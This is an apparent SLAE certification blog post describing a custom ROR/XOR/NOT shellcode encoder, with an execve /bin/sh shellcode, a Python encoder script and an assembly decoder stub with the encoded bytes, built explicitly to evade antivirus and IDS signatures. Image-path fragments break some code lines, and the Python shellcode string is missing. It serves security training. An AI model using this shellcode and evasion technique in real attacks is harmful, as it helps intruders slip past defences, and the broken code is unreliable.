Monday, 10 August 2015

SLAE Assignment #4: Custom Encoder

For my SLAE (Securitytube Linux Assembly Expert) certification exam, I have to blog my 7 assignments. Below is the fourth exercise requested about writing a custom encoder shellcode. Code can be found at my GitHub SLAE repository.

Plain or clear shellcode can be detected easily by Antivirus and Intrusion Detection Systems. Indeed, they just have to make a signature of the shellcode, and it will be detected without much effort. One strategy to avoid that is to encode the shellcode, so that the resulting opcodes have no meaning at all. Of course to make it runable, a decoder stub has to be prepended and decode the shellcode at runtime, and jump to it.

I looked at various assembly instructions to make a decoder, one famous being XOR. However, I wanted to chain multiple instructions as to not make the encoding too close to known encoding schemes such as XOR. After looking into it, I went for the combination of ROR, XOR, and NOT. The three are bitwize instructions, ROR will rotate the bits by 7 to the right (= ROL 1), XOR will be applied with a key to encode the shellcode further, and then NOT will finally invert each byte. As an example: \x0D (ROR 7) = \x3B (XOR \xAA) = \x91 (NOT) = \x6E. So \x0D becomes \x6E at the end of the encoding. Below, let's start with the original shellcode, that will be later encoded. This is a simple Execve /bin/sh shellcode.

All comments are on the code. Available also on GitHub:; Title: Execve stack (25 bytes)
; From SLAE course
; SLAE-681

global _start

section .text

 ;    ebx            ecx      edx
 ; [/bin/sh][NULL][&/bin/sh][NULL]

 ; 1 [NULL]
 xor eax, eax
 push eax  ; push NULL on the stack, before pushing a string

 ; 2 [&/bin/sh][NULL]
 ; PUSH //bin/sh (8 bytes) 68732f6e 69622f2f
 push 0x68732f6e
 push 0x69622f2fmov ebx, esp  ; ebx = //bin/sh NULL

 ; 3 [NULL][&/bin/sh][NULL]
 push eax
 mov edx, esp  ;  edx = NULL

 push ebx
 mov ecx, esp  ; ecx = &//bin/sh

 mov al, 11  ; execve syscall
 int 0x80
Then we compile and build it, checking it works:

It works as expected as we have a /bin/sh shell opened, now it's time to make an encoder. I have made a ROR/XOR/NOT encoder in python, which has to be opened to put the shellcode inside, before execution of the python program:


# Title: ROR/XOR/NOT encoder
# File:# Author: Guillaume Kaddouch
# SLAE-681

import sys

ror = lambda val, r_bits, max_bits: \
    ((val & (2**max_bits-1)) >> r_bits%max_bits) | \
    (val << (max_bits-(r_bits%max_bits)) & (2**max_bits-1))

shellcode = (

encoded = ""
encoded2 = ""

print "[*] Encoding shellcode..."

for x in bytearray(shellcode):
    # ROR & XOR encoding
    z = ror(x, 7, 8)^0xAA

    # NOT encoding
    y = ~z

    if str('%02x' % (y & 0xff)).upper() == "00":print ">>>>>>>>>> NULL detected in shellcode, aborting."

    if str('%02x' % (y & 0xff)).upper() == "0A":
        print ">>>>>>>>>>  \\xOA detected in shellcode."

    if str('%02x' % (y & 0xff)).upper() == "0D":
        print ">>>>>>>>>>> \\x0D detected in shellcode."

    encoded += '\\x'
    encoded += '%02x' % (y & 0xff)

    encoded2 += '0x'
    encoded2 += '%02x,' %(y & 0xff)

print "hex version : %s" % encoded
print "nasm version : %s" % encoded2
print "encoded shellcode : %s bytes" % str(len(encoded)/4)

We can now execute this python program to encode our shellcode, and display it on screen:

So original shellcode was:

Encoded shellcode becomes:

Now it's time to write a decoder shellcode, a decoder stub that will be launched first, to then decode the execve shellcode:; Title:  Execve ROR XOR NOT decoder shellcode
; File: execve-rorxornotencoded.asm
; Author: Guillaume Kaddouch
; SLAE-681

global _start

section .text


 jmp short get_address ; JMP CALL POP method to get "encoded" address


 pop esi     ; retrieve encoded shellcode address
 xor ecx, ecx
 mov cl, len    ; set the counter to encoded shellcode length

decoder:   ; decoding of ROR/XOR/NOT starts end and decodes backward
 not byte [esi]   ; NOT current byte
 xor byte [esi], 0xAA  ; XOR 0xaa
 rol byte [esi], 7  ; ROL 7: rotate left 7 bytes
 inc esi
 loop decoder   ; loop until ecx = 0
 jmp short encoded  ; ecx = 0, jump to now decoded shellcode

 call shellcode
 encoded: db 0x37,0xd4,0xf5,0x85,0x89,0x0b,0xb3,0x85,0x85,0x0b,0x0b,0x91,0x87,0x46,0x92,0xf5,0x46,0x90,0xf3,0x46,0x96,0x34,0x43,0xce,0x54
 len equ $-encoded:
The encoded execve /bin/sh shellcode has been included at the end of the shellcode, in the "encoded" variable. The decoder stub loops byte by byte to decode it, and then jump to it. Let's compile it and see if it works:

Then running the final program:

We can see that our encoded execve /bin/sh is correctly decoded and executed. There is a lot of possibilities to make encoders, and I think that combining 3 instructions is not a bad idea, even if the final size is 50 bytes (against 25 bytes unencoded). If size is an issue for a particular exploit, it ispossible to use a single encoding instruction such as INC, provided the original shellcode has no \xFF byte. Finally, now Antivirus and IDS have adapated and are able to fingerprint decoder stubs. We will talk about solutions in other assignments.

This blog post has beencreated for completing the requirements of the SecurityTube Linux Assembly Expert certification:

Student ID: SLAE-681

Nocomments:

Post a Comment